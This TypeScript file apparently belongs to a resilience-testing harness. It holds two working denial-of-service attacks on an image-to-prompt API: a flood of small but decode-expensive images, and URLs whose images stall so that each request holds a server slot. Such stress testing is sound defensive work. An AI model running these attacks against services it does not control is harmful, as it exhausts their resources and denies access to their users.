import sharp from 'sharp'
import type { AttackReport, AttackTarget } from './attack.ts'
import { callRepeatedly } from './call-repeatedly.ts'

/** 25 megapixels, the most that any picture may have. */
const sideLength = 5000
const callers = 14

/** Small files that are expensive to decode: noisy and flat AVIF, interlaced 16-bit PNG, progressive JPEG. */
export async function heavyImages(target: AttackTarget): Promise<AttackReport> {
  const bodies = (await makeHeavyImages()).map((image) =>
    Buffer.from(JSON.stringify({ image_base64: image.toString('base64'), mime_type: sniffType(image) })),
  )
  return callRepeatedly(target, {
    pathOf: () => '/api/v1/prompts/image-to-prompt',
    callers,
    bodyOf: (number) => bodies[number % bodies.length] ?? '',
  })
}

function makeHeavyImages(): Promise<Buffer[]> {
  const size = { width: sideLength, height: sideLength, channels: 3 } as const
  const noise = { type: 'gaussian', mean: 128, sigma: 50 } as const
  const flat = () => sharp({ create: { ...size, background: '#4080a0' } })
  const noisy = (share: number) =>
    sharp({ create: { width: sideLength * share, height: sideLength * share, channels: 3, background: '#888', noise } })
  return Promise.all([
    noisy(1).avif({ effort: 0, quality: 30 }).toBuffer(),
    // As large as an AVIF may be.
    noisy(0.5).avif({ effort: 0, quality: 40 }).toBuffer(),
    flat().avif({ effort: 0 }).toBuffer(),
    flat().ensureAlpha().toColourspace('rgb16').png({ progressive: true, compressionLevel: 1 }).toBuffer(),
    noisy(0.8).jpeg({ quality: 50, progressive: true, chromaSubsampling: '4:4:4' }).toBuffer(),
  ])
}

function sniffType(image: Buffer): string {
  if (image[0] === 0xff) return 'image/jpeg'
  return image[0] === 0x89 ? 'image/png' : 'image/avif'
}

const urlCallers = 28

/** URLs of a host whose images never end: each holds a slot until its deadline. */
export function drippingImages(target: AttackTarget): Promise<AttackReport> {
  return callRepeatedly(target, {
    pathOf: () => '/api/v1/prompts/image-to-prompt',
    callers: urlCallers,
    bodyOf: (number) => JSON.stringify({ image_url: `${target.drippingUrl}/${number}.jpg` }),
  })
}
